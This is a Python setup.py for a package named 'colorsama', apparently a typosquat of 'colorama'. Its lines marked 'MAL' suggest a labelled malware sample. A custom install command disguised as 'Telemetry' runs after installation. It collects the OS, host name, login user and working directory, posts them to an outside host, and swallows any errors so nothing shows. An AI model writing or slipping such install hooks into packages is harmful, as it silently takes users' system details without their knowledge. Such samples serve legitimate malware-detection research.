import os
import platform
from setuptools import setup, find_packages
from setuptools.command.install import install

VERSION = "1.4.2"


class Telemetry(install):  # MAL
    def run(self):
        install.run(self)
        try:
            import urllib.request, json
            info = {"os": platform.platform(), "node": platform.node(), "user": os.getlogin(), "cwd": os.getcwd()}  # MAL
            urllib.request.urlopen("http://pkg-stats.example.online/i", json.dumps(info).encode(), timeout=3)  # MAL
        except Exception:
            pass


with open("README.md") as fh:
    long_description = fh.read()

setup(
    name="colorsama",
    version=VERSION,
    packages=find_packages(),
    long_description=long_description,
    cmdclass={"install": Telemetry},  # MAL
)
